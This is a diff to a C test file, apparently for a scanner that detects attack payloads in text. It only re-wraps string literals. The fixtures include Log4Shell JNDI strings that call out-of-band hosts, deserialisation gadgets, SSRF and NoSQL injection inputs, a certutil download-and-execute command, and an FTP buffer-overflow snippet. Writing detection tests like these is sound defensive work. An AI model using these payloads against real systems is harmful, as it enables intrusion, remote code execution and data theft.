@@ -1623,14 +1623,16 @@ test_payload_shapes(void)
         "```\nX-Forwarded-For: ${jndi:ldap://${env:HOSTNAME}.q9.dnslog.cn/x}\n```\n",
         "在用户名处填入 `${jndi:dns://probe.fict-oob.org}` 即可。\n",
         /* deserialisation objects */
-        "```\n{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://oob.fict.cn/E\"}\n"
+        "```\n{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://oob.fict.cn/"
+        "E\"}\n"
         "```\n",
         "```\nO:7:\"Session\":1:{s:3:\"cmd\";s:2:\"id\";}\n```\n",
         "把 Cookie 改为 `O:5:\"Cache\":1:{s:4:\"path\";s:9:\"/tmp/a.php\";}` 即可。\n",
         /* H2, gopher, NoSQL, extension cuts, shell separators */
         "```\njdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://oob.fict.cn/a.sql'\n```\n",
         "在 img 参数填入 `gopher://10.1.1.5:6379/_%2A2%0D%0A%244%0D%0Ainfo%0D%0A` 即可。\n",
-        "```\nPOST /api/auth HTTP/1.1\nHost: 10.2.3.4\n\n{\"user\":{\"$gt\":\"\"},\"pass\":{\"$gt\":\"\"}}\n"
+        "```\nPOST /api/auth HTTP/1.1\nHost: "
+        "10.2.3.4\n\n{\"user\":{\"$gt\":\"\"},\"pass\":{\"$gt\":\"\"}}\n"
         "```\n",
         "```\nGET /login?user[$ne]=x&pass[$ne]=x HTTP/1.1\n```\n",
         "上传时把文件名改为 `cmd.aspx::$DATA` 即可绕过。\n",
@@ -1705,10 +1707,12 @@ test_payload_commands(void)
 {
     static const char *const found[] = {
         "```\ncurl -s -X POST http://TARGET/fict/run --data 'command=whoami'\n```\n",
-        "```\ncertutil.exe -urlcache -split -f http://203.0.113.9/u.exe %TEMP%\\u.exe & %TEMP%\\u.exe\n"
+        "```\ncertutil.exe -urlcache -split -f http://203.0.113.9/u.exe %TEMP%\\u.exe & "
+        "%TEMP%\\u.exe\n"
         "```\n",
         "```python\nimport socket, struct\nc = socket.socket()\nc.connect((\"192.168.7.3\", 21))\n"
-        "c.send(b\"USER \" + b\"A\"*260 + struct.pack(\"<I\", 0x7c9d30d7) + b\"\\x90\"*8 + sc)\n```\n",
+        "c.send(b\"USER \" + b\"A\"*260 + struct.pack(\"<I\", 0x7c9d30d7) + b\"\\x90\"*8 + "
+        "sc)\n```\n",
     };
     static const char *const clean[] = {
         "```\ncurl -X POST http://TARGET/fict/list -d 'sort=id'\n```\n",
@@ -1716,7 +1720,8 @@ test_payload_commands(void)
         "```\ncertutil -hashfile setup.exe SHA256\n```\n",
         "```python\nimport socket, struct\nc = socket.socket()\nc.connect((\"192.168.7.3\", 21))\n"
         "c.send(struct.pack(\"<I\", len(msg)) + msg)\n```\n",
-        "```python\nfrom pwn import *\nio = process('./lab')\nio.sendline(b'A'*40 + p64(0x401136))\n"
+        "```python\nfrom pwn import *\nio = process('./lab')\nio.sendline(b'A'*40 + "
+        "p64(0x401136))\n"
         "```\n",
     };
     for (size_t i = 0; i < EMB_ARRAY_LEN(found); i++)
